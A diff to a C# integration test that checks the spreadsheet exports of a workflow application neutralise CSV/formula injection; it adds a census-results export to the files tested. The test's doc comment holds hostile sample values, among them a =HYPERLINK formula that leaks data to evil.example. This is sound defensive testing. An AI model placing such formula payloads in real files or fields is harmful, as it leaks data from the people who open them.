@@ -17,8 +17,8 @@ namespace CapacityExit.Workflow.Integration.Tests.Spreadsheets;
 /// <summary>
 /// CSV injection (OWASP): an enterprise named <c>=HYPERLINK("http://evil.example/?leak","点我")</c>, a target described
 /// as <c>+1+cmd</c> and a census cell <c>@SUM(1)</c> go out of every export the office downloads — the credit exchange
-/// file as CSV and .xlsx, the case list, the yellow-card list, the replacement ledger, the annual targets and the census
-/// problems — as text: a single quote in front, the rest as typed, and no formula anywhere in the file.
+/// file as CSV and .xlsx, the case list, the yellow-card list, the public census results, the replacement ledger, the
+/// annual targets and the census problems — as text: a single quote in front, the rest as typed, and no formula anywhere in the file.
 /// This class works in 嘉兴 only, on its own database.
 /// </summary>
 public sealed class ExportFormulaInjectionTests(MeasureHost fixture) : IClassFixture<MeasureHost>
@@ -35,7 +35,7 @@ public sealed class ExportFormulaInjectionTests(MeasureHost fixture) : IClassFix
     {
         var files = await ExportsAsync();
 
-        Assert.Equal(["credit exchange (CSV)", "credit exchange (.xlsx)", "case list", "yellow-card list", "replacement ledger", "annual targets", "census problems"],
+        Assert.Equal(["credit exchange (CSV)", "credit exchange (.xlsx)", "case list", "yellow-card list", "census results", "replacement ledger", "annual targets", "census problems"],
             files.Select(f => f.Name).ToArray());
         foreach (var (name, content, type, typed) in files)
         {
@@ -91,6 +91,8 @@ public sealed class ExportFormulaInjectionTests(MeasureHost fixture) : IClassFix
             var city = await lists.CityAsync("330400", CancellationToken.None);
             files.Add(("yellow-card list", Xlsx.Write(await lists.ListAsync(PublicList.YellowCards, city.Id, year, CancellationToken.None),
                 ListExports.PublicList(PublicList.YellowCards), ListExports.PublicListTitle(PublicList.YellowCards)), ExcelType.XLSX, EvilName));
+            files.Add(("census results", Xlsx.Write(await lists.ListAsync(PublicList.Census, city.Id, year, CancellationToken.None),
+                ListExports.PublicList(PublicList.Census), ListExports.PublicListTitle(PublicList.Census)), ExcelType.XLSX, EvilName));
 
             files.Add(("replacement ledger", await sp.GetRequiredService<ReplacementService>().LedgerWorkbookAsync(Office, CancellationToken.None), ExcelType.XLSX, EvilName));
 
